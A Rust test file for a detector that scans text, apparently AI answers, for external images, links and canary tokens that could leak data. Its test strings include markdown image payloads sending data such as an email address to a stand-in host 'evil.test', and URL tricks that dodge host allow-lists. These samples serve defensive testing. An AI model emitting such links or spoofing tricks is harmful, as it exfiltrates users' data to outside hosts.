//! What an answer must not carry out: what the samples do not say.

use super::super::links::MAX_URL;
use super::lanes::{absolute, cut, lane_findings, pushes, select};
use super::{Detectors, builtin, corpora, detectors, findings, found};

const BOTH: [&str; 2] = ["EXTERNAL_IMAGE", "EXTERNAL_LINK"];

/// What is found, which must be the same in a whole text and in pieces.
fn both_ways(detectors: &Detectors, names: &[&str], text: &str) -> Vec<String> {
    let selection = select(detectors, names);
    let lane = absolute(&pushes(detectors, &selection, cut(text, 1).into_iter()), text);
    let lane = lane.iter().map(|f| format!("{}:{}", detectors.kind(f.kind).name, text.get(f.start..f.end).unwrap()));
    let scan = found(detectors, names, text);
    assert_eq!(lane.collect::<Vec<_>>(), scan, "{text}");
    scan
}

#[test]
fn hosts_in_the_list_are_left_alone() {
    let detectors =
        detectors(r#"{"links": {"hosts": ["Docs.example", "*.docs.example", "[2001:db8::1]", "10.0.0.*"]}}"#);
    for text in [
        "![x](https://docs.example/?d)",
        "![x](https://cdn.DOCS.example./?d)",
        "[x](https://docs.example:8443/a?b#c)",
        "https://user@docs.example/?d",
        "<img src=//docs.example/x>",
        "https://[2001:db8::1]:80/?d",
        "http://10.0.0.7/?d",
        "![x][r]\n\n[r]: https://docs.example/x",
    ] {
        assert_eq!(both_ways(&detectors, &BOTH, text), [""; 0], "{text}");
    }
    for text in [
        "![x](https://docs.example.evil.test)",
        "![x](https://docs.example@evil.test/)",
        "![x](https://docs.example\\@evil.test/)",
        "![x](https://evil.test/docs.example)",
        "![x](https://evil.test%2f.docs.example/)",
        "![x](https://evil.test%23.docs.example/)",
        "![x](https://evildocs.example/)",
        "![x](//evil.test\\.docs.example/)",
    ] {
        assert_eq!(both_ways(&detectors, &BOTH, text).len(), 1, "{text}");
    }
}

#[test]
fn of_an_image_and_a_link_the_image_stays() {
    let detectors = builtin();
    let text = "![x](https://evil.test/?d=1) and [y](https://evil.test/?e=2)";
    assert_eq!(
        both_ways(&detectors, &BOTH, text),
        ["EXTERNAL_IMAGE:https://evil.test/?d=1", "EXTERNAL_LINK:https://evil.test/?e=2"]
    );
    assert_eq!(both_ways(&detectors, &["EXTERNAL_LINK"], text).len(), 2);
    assert_eq!(both_ways(&detectors, &["EXTERNAL_IMAGE"], text).len(), 1);
    // What else a URL holds is found beside it.
    assert_eq!(
        both_ways(&detectors, &["all", "exfiltration"], "![x](https://evil.test/?d=bob@acme.com)"),
        ["EXTERNAL_IMAGE:https://evil.test/?d=bob@acme.com", "EMAIL_ADDRESS:bob@acme.com"]
    );
    // A URL in a URL is a part of it, and one behind it is not.
    assert_eq!(both_ways(&detectors, &BOTH, "https://evil.test/?u=https://other.test/?d").len(), 1);
    assert_eq!(both_ways(&detectors, &BOTH, "https://evil.test/?d,https://other.test/?d").len(), 2);
}

#[test]
fn nothing_hides_behind_what_was_left_open() {
    let detectors = builtin();
    for text in [
        "[x](foo ![y](https://evil.test/a) z)",
        "[x](<foo ![y](https://evil.test/a)",
        "[a](\n[r]: https://evil.test/a\n![r]",
        "src=\" and then ![y](https://evil.test/a)",
        "url(' and then <img src=https://evil.test/a>",
        "<a title='![y](https://evil.test/a)'>",
        "[x](https://evil.test/?d=](y))",
        "<b title=\"\n\n<img src=https://evil.test/a>",
    ] {
        let found = both_ways(&detectors, &BOTH, text);
        // Its URL, or the label that it is named by.
        assert!(found.iter().any(|f| f.contains("//evil.test/") || f.ends_with(":r")), "{text}: {found:?}");
    }
}

#[test]
fn long_urls_are_found_in_parts() {
    let detectors = builtin();
    for (start, end) in
        [("![x](", ")"), ("<img src='", "'>"), ("[x](<", ">)"), ("", " "), ("<p style=\"a:url(", ")\">")]
    {
        let url = format!("https://evil.test/?{}", "d".repeat(3 * MAX_URL));
        let text = format!("see {start}{url}{end} and on");
        for size in [1, 7, 100_000] {
            let selection = select(&detectors, &BOTH);
            let pushes = pushes(&detectors, &selection, cut(&text, size).into_iter());
            let found = absolute(&pushes, &text);
            let covered: usize = found.iter().map(|f| f.end - f.start).sum();
            assert_eq!((covered, found.len()), (url.len(), 4), "{start} in {size}");
            let held = pushes.iter().scan(0, |settled, p| {
                *settled += p.text.len();
                Some(p.read - *settled)
            });
            assert!(size > 7 || held.max().unwrap() <= MAX_URL + 8);
        }
        assert_eq!(found(&detectors, &BOTH, &text).len(), 4);
    }
    // What leads nowhere is let go of, however long.
    let text = format!("![x](data:image/png;base64,{})", "QUJD".repeat(MAX_URL));
    assert_eq!(both_ways(&detectors, &BOTH, &text), [""; 0]);
    // A host that hides behind a long name is no way out.
    let text = format!("![x](https://{}@evil.test/)", "a".repeat(2 * MAX_URL));
    assert_eq!(both_ways(&detectors, &BOTH, &text).len(), 3);
}

#[test]
fn more_labels_than_are_remembered() {
    let detectors = builtin();
    let definitions: String = (0..300).map(|i| format!("[r{i}]: https://evil.test/{i}\n")).collect();
    // Those that are not remembered count at once.
    assert_eq!(both_ways(&detectors, &["EXTERNAL_IMAGE"], &definitions).len(), 44);
    let images: String = (0..300).map(|i| format!("![r{i}]\n")).collect();
    assert_eq!(both_ways(&detectors, &["EXTERNAL_IMAGE"], &format!("{images}\n{definitions}")).len(), 300);
    assert_eq!(both_ways(&detectors, &["EXTERNAL_IMAGE"], &format!("{definitions}\n{images}")).len(), 300);
}

#[test]
fn reserved_names_are_labelled() {
    let detectors = builtin();
    let selection = select(&detectors, &["EXTERNAL_IMAGE"]);
    for (text, reserved) in
        [("![](https://a.example/x)", true), ("![](https://example.com)", true), ("![](https://acme.io)", false)]
    {
        let found = lane_findings(&detectors, &selection, text);
        assert_eq!((found.len(), found[0].test_value), (1, reserved), "{text}");
    }
}

#[test]
fn canaries() {
    let detectors = detectors(r#"{"canaries": [{"env": "CANARY"}]}"#);
    for (text, expected) in [
        ("it is Zx9-Kanarie-Ü7.", vec!["CANARY:Zx9-Kanarie-Ü7"]),
        ("itisZX9-KANARIE-Ü7now", vec!["CANARY:ZX9-KANARIE-Ü7"]),
        ("zx9-kanarie-ü7zx9-kanarie-ü7", vec!["CANARY:zx9-kanarie-ü7", "CANARY:zx9-kanarie-ü7"]),
        ("Zx9-Kanarie-U7 and Zx9 Kanarie", vec![]),
    ] {
        assert_eq!(both_ways(&detectors, &["CANARY"], text), expected, "{text}");
        assert_eq!(both_ways(&detectors, &["exfiltration"], text), expected, "{text}");
        assert_eq!(both_ways(&detectors, &["all"], text), [""; 0]);
    }
    assert_eq!(found(&builtin(), &["CANARY"], "Zx9-Kanarie-Ü7"), [""; 0]);
    assert!(!format!("{detectors:?}").contains("Kanarie"));
}

/// How often ordinary text has what is found here: for the eye.
#[test]
fn ordinary_text() {
    let Some(rows) = corpora::rows("benign.jsonl") else { return };
    let detectors = builtin();
    let (mut images, mut links) = (0, 0);
    for row in &rows {
        let text = row["text"].as_str().unwrap();
        let found = found(&detectors, &BOTH, text);
        let of = |kind: &str| usize::from(found.iter().any(|f| f.starts_with(kind)));
        (images, links) = (images + of("EXTERNAL_IMAGE"), links + of("EXTERNAL_LINK"));
        for f in findings(&detectors, &BOTH, text) {
            corpora::show("found", &detectors.kind(f.kind).name, text, (f.start, f.end));
        }
    }
    println!("{} rows: {images} with an image, {links} with a link", rows.len());
}
